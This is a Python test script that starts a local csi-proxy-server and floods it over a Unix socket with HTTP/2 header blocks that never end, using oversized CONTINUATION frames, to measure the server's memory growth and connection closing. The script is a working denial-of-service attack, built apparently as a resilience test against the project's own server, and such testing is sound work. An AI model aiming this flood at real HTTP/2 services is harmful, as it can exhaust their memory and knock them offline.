#!/usr/bin/env python3
"""A hostile local client against csi-proxy-server: N connections each send
a header block that never ends (16 KiB HEADERS without END_HEADERS, then
CONTINUATION frames of 16 KiB up to 1 MiB, then one declared 1 MiB sent a
byte short) and go silent. Prints the server's RSS before and after, and
how many connections the server closed.

    scripts/attack-memory.py target/debug/csi-proxy-server 400
"""
import os, socket, struct, subprocess, sys, time, tempfile

def frame(kind, flags, stream, payload):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + struct.pack(">I", stream) + payload

def rss(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS"):
            return int(line.split()[1])

server, n = sys.argv[1], int(sys.argv[2])
d = tempfile.mkdtemp()
p = subprocess.Popen([server, "--socket-dir", d, "--log-level", "error"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
path = os.path.join(d, "csi-proxy-disk-v1.sock")
while not os.path.exists(path): time.sleep(0.1)
time.sleep(1)
before = rss(p.pid)
conns, closed = [], 0
chunk = b"\x00" * 16384
for i in range(n):
    s = socket.socket(socket.AF_UNIX); s.connect(path); s.setblocking(True)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    try:
        s.sendall(frame(1, 0, 1, chunk))
        for _ in range(63):
            s.sendall(frame(9, 0, 1, chunk))
        big = frame(9, 0, 1, b"\x00" * (1 << 20))
        s.sendall(big[:-1])
    except (BrokenPipeError, ConnectionResetError):
        pass
    conns.append(s)
time.sleep(3)
after = rss(p.pid)
for s in conns:
    s.settimeout(0.2)
    try:
        data = b""
        while True:
            b = s.recv(65536)
            if not b: closed += 1; break
            data += b
    except (socket.timeout, BlockingIOError):
        pass
    except (ConnectionResetError, BrokenPipeError):
        closed += 1
print(f"connections={n} rss_before_kb={before} rss_after_kb={after} per_connection_kb={(after-before)/n:.1f} closed_by_server={closed}")
p.terminate(); p.wait()
